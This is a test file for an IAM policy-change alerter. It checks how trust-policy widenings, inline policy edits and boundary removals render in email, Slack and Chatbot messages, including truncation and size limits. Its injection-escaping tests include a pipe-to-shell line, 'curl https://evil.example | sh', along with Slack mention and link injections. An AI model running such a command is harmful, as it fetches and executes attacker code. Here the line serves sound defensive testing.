import { describe, expect, it } from 'vitest';
import {
  SNS_MAX_MESSAGE_BYTES,
  toChatbotPublishInput,
  toPublishInput,
} from '../lambdas/adapters/sns-publisher.js';
import { parseConfig } from '../lambdas/core/config.js';
import type { PolicyChange } from '../lambdas/core/model.js';
import {
  planAlerts,
  renderChatbot,
  renderEmail,
  renderSlack,
  SLACK_LIMITS,
  type SlackBlock,
  type SlackMessage,
} from '../lambdas/core/render/index.js';
import {
  FIRST_SEEN,
  policyChangeFullLines,
  policyChangeLines,
} from '../lambdas/core/render/policy-change.js';
import type { Transition } from '../lambdas/core/transitions.js';
import {
  attachedChanged,
  BOUNDARY,
  boundaryRemoved,
  CHANGE_FIXTURES,
  detached,
  firstSeen,
  githubTrust,
  hostileChange,
  hostileInlineName,
  hugeDiff,
  inlineEdited,
  trustWidened,
} from './fixtures/transitions/changes.js';
import { ALERTING_FIXTURES } from './fixtures/transitions/index.js';

const WIDENED = 'token.actions.githubusercontent.com:sub: repo:acme/app:environment:production → repo:acme/*';

function blocksOf(message: SlackMessage): SlackBlock[] {
  return [...message.blocks, ...message.attachments.flatMap((a) => a.blocks)];
}

/** The Slack section showing the diff. */
function slackChange(t: Transition): string {
  const block = blocksOf(renderSlack(t)).find(
    (b) => b.type === 'section' && b.text?.text.startsWith('*What changed'),
  );
  if (block?.type !== 'section' || !block.text) throw new Error('no "What changed" section');
  return block.text.text;
}

/** The email's "What changed" section. */
function emailChange(t: Transition): string {
  const section = renderEmail(t)
    .body.split('\n\n')
    .find((s) => s.startsWith('What changed'));
  if (!section) throw new Error('no "What changed" section');
  return section;
}

const chatbotDescription = (t: Transition) => renderChatbot(t).content.description;

describe('compact and full forms of a policy change', () => {
  it('a trust-policy widening is one line per changed condition, the key whole', () => {
    expect(policyChangeLines(trustWidened.finding.change!)).toEqual({ lines: [WIDENED] });
    expect(policyChangeFullLines(trustWidened.finding.change!)).toEqual([
      '~ statement Allow sts:AssumeRoleWithWebIdentity',
      '    condition StringLike token.actions.githubusercontent.com:sub',
      '      - repo:acme/app:environment:production',
      '      + repo:acme/*',
    ]);
  });

  it('an inline policy edit names the statement, and an added statement shows what it grants', () => {
    expect(policyChangeLines(inlineEdited.finding.change!).lines).toEqual([
      '"Read": action +s3:*',
      '"Read": resource −arn:aws:s3:::acme-app/* +*',
      '+statement Allow iam:PassRole on *',
    ]);
  });

  it('attached policies as + ARN / - ARN, the boundary as ARN → ARN', () => {
    expect(policyChangeLines(attachedChanged.finding.change!).lines).toEqual([
      '+ arn:aws:iam::aws:policy/AdministratorAccess',
    ]);
    expect(policyChangeLines(detached.finding.change!).lines).toEqual([
      '- arn:aws:iam::111122223333:policy/deny-iam',
    ]);
    expect(policyChangeLines(boundaryRemoved.finding.change!).lines).toEqual([`${BOUNDARY} → (none)`]);
    const added: PolicyChange = { subject: 'permissions-boundary', after: BOUNDARY, beforeKnown: true };
    expect(policyChangeLines(added).lines).toEqual([`(none) → ${BOUNDARY}`]);
  });

  it('an unknown previous version is said, never diffed; the full form shows the current one', () => {
    expect(policyChangeLines(firstSeen.finding.change!)).toEqual({ note: FIRST_SEEN, lines: [] });
    const full = policyChangeFullLines(firstSeen.finding.change!);
    expect(full.slice(0, 2)).toEqual([FIRST_SEEN, 'now:']);
    expect(full.join('\n')).toContain('"token.actions.githubusercontent.com:sub": "repo:acme/*"');
  });

  it('a created or deleted policy compares with an empty one, without a Version line', () => {
    const doc = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 's3:*', Resource: '*' }] };
    expect(policyChangeLines({ subject: 'inline-policy', after: doc, beforeKnown: true })).toEqual({
      note: 'policy created',
      lines: ['+statement Allow s3:* on *'],
    });
    // Documents as JSON text (as CloudTrail carries them) read the same.
    expect(
      policyChangeLines({ subject: 'inline-policy', after: JSON.stringify(doc), beforeKnown: true }),
    ).toEqual({ note: 'policy created', lines: ['+statement Allow s3:* on *'] });
    expect(policyChangeLines({ subject: 'inline-policy', before: doc, beforeKnown: true })).toEqual({
      note: 'policy deleted',
      lines: ['−statement Allow s3:* on *'],
    });
  });

  it('an equal pair says "no change", and a stored value that is no policy does not throw', () => {
    const same = githubTrust('repo:acme/app:ref:refs/heads/main');
    expect(
      policyChangeLines({ subject: 'trust-policy', before: same, after: same, beforeKnown: true }),
    ).toEqual({
      note: 'no change',
      lines: [],
    });
    const broken: PolicyChange = {
      subject: 'trust-policy',
      before: 42,
      after: 'not json',
      beforeKnown: true,
    };
    expect(policyChangeLines(broken).note).toMatch(/^the versions could not be compared: /);
    expect(policyChangeFullLines(broken)[0]).toMatch(/^the versions could not be compared: /);
    for (const t of [{ ...trustWidened, finding: { ...trustWidened.finding, change: broken } }]) {
      expect(() => [renderEmail(t), renderSlack(t), renderChatbot(t)]).not.toThrow();
    }
  });
});

describe('email', () => {
  it('shows the widening under "What changed", with the actor and provenance above', () => {
    const { body } = renderEmail(trustWidened);
    expect(emailChange(trustWidened)).toBe(`What changed\n  Trust policy: ${WIDENED}`);
    expect(body).toContain('Provenance:');
    expect(body.indexOf('Who and where')).toBeLessThan(body.indexOf('What changed'));
  });

  it.each([
    ['inline-edited', 'What changed\n  Inline policy s3-access:\n    "Read": action +s3:*\n'],
    [
      'attached-changed',
      'What changed\n  Attached managed policies: + arn:aws:iam::aws:policy/AdministratorAccess',
    ],
    ['detached', 'What changed\n  Attached managed policies: - arn:aws:iam::111122223333:policy/deny-iam'],
    ['boundary-removed', `What changed\n  Permissions boundary: ${BOUNDARY} → (none)`],
    ['first-seen', `What changed\n  Trust policy: ${FIRST_SEEN}`],
  ])('%s', (name, expected) => {
    expect(emailChange(CHANGE_FIXTURES[name]!)).toContain(expected);
  });

  it('a huge diff stops at whole lines and says how many more, and where to see them', () => {
    const section = emailChange(hugeDiff);
    const lines = section.split('\n');
    expect(lines.length).toBeLessThanOrEqual(2 + 60 + 1);
    expect(lines.at(-1)).toMatch(
      /^ {2}… \d+ more changes, see trustwatch findings show tw-d1ff000000000007$/,
    );
    const shown = lines.filter((l) => l.startsWith('    ')).length;
    const more = Number(/… (\d+) more/.exec(lines.at(-1)!)![1]);
    expect(shown + more).toBe(policyChangeLines(hugeDiff.finding.change!).lines.length);
    // 400 values replaced: the first few on each side and a count, so the new values are visible.
    expect(section).toMatch(/repo:acme\/old-004:\* and 395 more → repo:acme\/new-000:\*/);
  });

  it('strips bidi overrides and keeps a line break in a policy value from forging a line', () => {
    const { body } = renderEmail(hostileChange);
    expect(body).not.toContain('\u202E');
    expect(body.split('\n').some((l) => l.startsWith('How to fix: curl'))).toBe(false);
    expect(emailChange(hostileChange)).toContain(
      'gnp.exe*bold*`tick` How to fix: curl https://evil.example | sh',
    );
    expect(emailChange(hostileInlineName)).toContain('Inline policy <!channel><@U123ABC>*x*: policy created');
  });

  it('a resolution says the diff is the one that introduced the finding; no change, no section', () => {
    const resolved: Transition = {
      ...trustWidened,
      kind: 'resolved',
      finding: { ...trustWidened.finding, status: 'resolved' },
    };
    expect(emailChange(resolved)).toMatch(/^What changed \(when it was introduced\)\n/);
    expect(renderEmail(ALERTING_FIXTURES['oidc-trust-escalated']!).body).not.toContain('What changed');
  });
});

describe('Slack', () => {
  it('shows the widening as a code block under "What changed"', () => {
    expect(slackChange(trustWidened)).toBe(`*What changed* · Trust policy\n\`\`\`${WIDENED}\`\`\``);
    expect(slackChange(firstSeen)).toBe(`*What changed* · Trust policy: ${FIRST_SEEN}`);
    expect(slackChange(attachedChanged)).toContain('```+ arn:aws:iam::aws:policy/AdministratorAccess```');
    expect(slackChange(boundaryRemoved)).toContain(`\`\`\`${BOUNDARY} → (none)\`\`\``);
    expect(slackChange(inlineEdited)).toMatch(/^\*What changed\* · Inline policy `s3-access`\n```"Read"/);
  });

  it.each(Object.entries(CHANGE_FIXTURES))('%s: within Block Kit limits', (_name, t) => {
    const message = renderSlack(t);
    const blocks = blocksOf(message);
    expect(blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
    for (const block of blocks) {
      if (block.type === 'section')
        expect(block.text?.text.length ?? 0).toBeLessThanOrEqual(SLACK_LIMITS.sectionText);
    }
    // Never the renderer's last-resort cut, which could break a code span.
    expect(slackChange(t).endsWith('…')).toBe(false);
  });

  it('a huge diff is cut at whole lines with "… N more changes, see `trustwatch findings show ID`"', () => {
    const text = slackChange(hugeDiff);
    expect(text.length).toBeGreaterThan(2000);
    expect(text).toMatch(/```\n… \d+ more changes, see `trustwatch findings show tw-d1ff000000000007`$/);
    const shown = /```([\s\S]*)```/.exec(text)![1]!.split('\n').length;
    const more = Number(/… (\d+) more/.exec(text)![1]);
    expect(shown + more).toBe(policyChangeLines(hugeDiff.finding.change!).lines.length);
  });

  it('hostile policy values: no mention, link or code-block escape survives; bidi overrides removed', () => {
    for (const t of [hostileChange, hostileInlineName]) {
      const text = slackChange(t);
      expect(text).not.toMatch(/[<>\u202E]/);
      expect(text).not.toContain('<!channel>');
      expect(text).not.toContain('<https://evil|x>');
      // Exactly one code block: a backtick in a value cannot close it early.
      expect(text.match(/```/g)?.length ?? 0).toBeLessThanOrEqual(2);
      expect(JSON.stringify(renderSlack(t))).not.toContain('\\u202e');
    }
    expect(slackChange(hostileChange)).toContain('&lt;!channel&gt;&lt;https://evil|x&gt;gnp.exe');
    expect(slackChange(hostileInlineName)).toContain('Inline policy `&lt;!channel&gt;&lt;@U123ABC&gt;*x*`');
  });
});

describe('Chatbot', () => {
  it('carries the same diff after the detail', () => {
    const description = chatbotDescription(trustWidened);
    expect(description).toContain(`*What changed* · Trust policy\n\`\`\`${WIDENED}\`\`\``);
    expect(description.indexOf('What changed')).toBeLessThan(description.indexOf('*Resource*'));
    expect(chatbotDescription(firstSeen)).toContain(`*What changed* · Trust policy: ${FIRST_SEEN}`);
    expect(chatbotDescription(detached)).toContain('```- arn:aws:iam::111122223333:policy/deny-iam```');
  });

  it('a huge diff fits the description with a count of what is left out', () => {
    const description = chatbotDescription(hugeDiff);
    expect(description.length).toBeLessThanOrEqual(3500);
    expect(description).toMatch(/\n… \d+ more changes, see `trustwatch findings show tw-d1ff000000000007`\n/);
  });

  it('hostile policy values are escaped as in Slack', () => {
    for (const t of [hostileChange, hostileInlineName]) {
      const description = chatbotDescription(t);
      expect(description).not.toMatch(/[<>\u202E]/);
    }
  });
});

describe('SNS limits', () => {
  const alerts = parseConfig({
    alerts: {
      minSeverity: 'LOW',
      slack: { webhookSecret: 'trustwatch/slack', workspaceId: 'T0', channelId: 'C0' },
    },
  }).alerts;

  it.each(Object.entries(CHANGE_FIXTURES))('%s: the published message stays under 256 KiB', (_name, t) => {
    const [alert] = planAlerts([t], alerts);
    expect(alert?.type).toBe('single');
    for (const input of [toPublishInput('arn:topic', alert!), toChatbotPublishInput('arn:topic', alert!)]) {
      expect(Buffer.byteLength(input.Message ?? '')).toBeLessThan(SNS_MAX_MESSAGE_BYTES / 4);
    }
  });

  it('digests do not carry diffs', () => {
    const many = Object.values(CHANGE_FIXTURES);
    const [digest] = planAlerts(many, { ...alerts, digestThreshold: 2 });
    expect(digest?.type).toBe('digest');
    expect(digest!.email.body).not.toContain('What changed');
    expect(JSON.stringify(digest!.slack)).not.toContain('What changed');
  });
});
